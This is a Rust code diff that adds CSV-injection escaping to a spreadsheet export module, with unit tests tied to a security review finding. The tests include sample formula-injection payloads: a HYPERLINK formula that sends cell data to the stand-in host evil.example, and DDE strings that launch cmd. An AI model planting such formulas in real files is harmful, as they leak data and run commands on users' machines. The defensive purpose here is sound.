@@ -440,13 +440,50 @@ pub fn to_table(sheets: &[Sheet]) -> String {
     out
 }
 
+/// A CSV cell a spreadsheet program will not run (OWASP, CSV injection; security review M5): a
+/// cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return, and is not simply a
+/// number, gets a leading apostrophe, so Excel and WPS show it as text instead of evaluating it.
+pub fn csv_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && cell.trim().parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// Rewrites CSV text (with or without the BOM) cell by cell through `csv_safe`.
+pub fn neutralise_csv(text: &str) -> Result<String, csv::Error> {
+    let body = text.strip_prefix('\u{feff}').unwrap_or(text);
+    let mut r = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(body.as_bytes());
+    let mut w = csv::WriterBuilder::new()
+        .flexible(true)
+        .from_writer(vec![0xEF, 0xBB, 0xBF]);
+    for record in r.records() {
+        let record = record?;
+        w.write_record(
+            record
+                .iter()
+                .map(csv_safe)
+                .collect::<Vec<_>>()
+                .iter()
+                .map(|c| c.as_ref()),
+        )?;
+    }
+    let bytes = w.into_inner().map_err(|e| e.into_error())?;
+    Ok(String::from_utf8(bytes).expect("csv writes UTF-8"))
+}
+
 /// One sheet as CSV: UTF-8 with a BOM (spreadsheet programs then show Chinese), the header the
-/// machine keys.
+/// machine keys; every cell through `csv_safe`.
 pub fn to_csv(sheet: &Sheet) -> Result<String, csv::Error> {
     let mut w = csv::WriterBuilder::new().from_writer(vec![0xEF, 0xBB, 0xBF]);
     w.write_record(sheet.columns.iter().map(|c| c.key))?;
     for r in &sheet.rows {
-        w.write_record(r.iter().map(Cell::text))?;
+        w.write_record(r.iter().map(|c| csv_safe(&c.text()).into_owned()))?;
     }
     let bytes = w.into_inner().map_err(|e| e.into_error())?;
     Ok(String::from_utf8(bytes).expect("csv writes UTF-8"))
@@ -574,5 +611,32 @@ mod tests {
         assert_eq!(width("服务企业"), 8);
         assert_eq!(width("K-2"), 3);
         assert_eq!(pad("企业", 6, false), "企业  ");
+    }
+
+    /// Security review M5: the cells of the reproduction open as text, numbers stay numbers.
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() {
+        for cell in [
+            r#"=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")"#,
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)",
+            "\tx",
+            "\r=1",
+        ] {
+            assert_eq!(csv_safe(cell), format!("'{cell}"), "{cell}");
+        }
+        for plain in [
+            "深圳示例合成生物研究院",
+            "-12",
+            "+3.5",
+            "2025-12-01",
+            "K-2",
+            "",
+        ] {
+            assert_eq!(csv_safe(plain), plain);
+        }
+        let csv = neutralise_csv("name,value\n=1+1,-5\n").unwrap();
+        assert_eq!(csv, "\u{feff}name,value\n'=1+1,-5\n");
     }
 }
